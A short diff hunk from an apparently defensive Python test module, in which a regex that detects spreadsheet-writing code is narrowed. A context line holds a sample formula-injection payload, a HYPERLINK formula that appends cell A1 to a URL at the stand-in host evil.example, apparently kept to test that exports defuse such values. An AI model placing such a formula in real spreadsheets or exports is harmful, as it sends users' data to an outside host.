@@ -20,7 +20,7 @@ from tests.consult.seed import seed
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Housing")'
 LANGUAGES = ("en", "fr", "ar", "zh-Hans", "pa", "tl", "es", "fa", "ur", "uk", "ti", "so")
-WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(|import openpyxl|from openpyxl")
+WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(")
 
 
 def _rename_housing(app, client, label: str) -> None:
